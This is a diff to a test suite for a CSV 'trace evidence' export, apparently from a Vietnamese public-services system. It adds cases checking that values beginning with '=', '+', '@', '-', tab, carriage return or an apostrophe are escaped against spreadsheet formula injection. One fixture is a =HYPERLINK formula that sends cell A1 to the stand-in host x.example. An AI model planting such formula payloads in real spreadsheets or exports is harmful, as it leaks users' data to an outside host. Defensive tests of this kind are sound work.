@@ -72,7 +72,7 @@ describe('trace evidence export', () => {
         ...someStoredEvents(27),
         forCitizen({ userAgent: '=HYPERLINK("http://x.example/?"&A1,"bấm")', dossierCode: '+84-123', unitCode: '' }),
         forCitizen({ accountId: '@admin', procedureCode: '-1', extra: { note: "'quoted", n: 1 } }),
-        forCitizen({ userAgent: '\tcmd', dossierCode: null, fields: [] }),
+        forCitizen({ userAgent: '\tcmd', dossierCode: null, fields: [], procedureCode: '\r=1+1', accountId: "'cb.quoted", unitCode: 'Đơn-vị' }),
       ],
       { source: 'http' },
     );
@@ -151,6 +151,9 @@ describe('trace evidence export', () => {
     expect(text).toContain(",'@admin,");
     expect(text).toContain(",'-1,");
     expect(text).toContain(",'\tcmd,");
+    expect(text).toContain(`,"'\r=1+1",`);
+    // An apostrophe first gets one more, so that removing one always gives the value back; other letters stay as they are.
+    expect(text).toContain(",''cb.quoted,Đơn-vị,");
     const [header, ...rows] = [...csvRecords(text)];
     for (const row of rows) {
       for (const [i, cell] of row.entries()) {
